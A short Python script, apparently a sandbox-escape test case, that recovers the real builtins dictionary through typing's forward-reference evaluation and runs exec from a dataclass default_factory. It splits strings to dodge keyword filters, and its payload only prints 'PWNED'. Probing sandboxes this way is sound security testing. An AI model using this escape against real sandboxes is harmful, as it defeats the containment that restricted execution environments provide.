# tramp: a dataclass default_factory partial(exec) runs from the generated __init__ ('<string>')
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

import dataclasses, functools
@dataclasses.dataclass
class D:
    x: object = dataclasses.field(default_factory=functools.partial(rb["exec"], "print('PWN' + 'ED')", {}))
try:
    D()
except Exception as e:
    print("refused:", type(e).__name__, e)
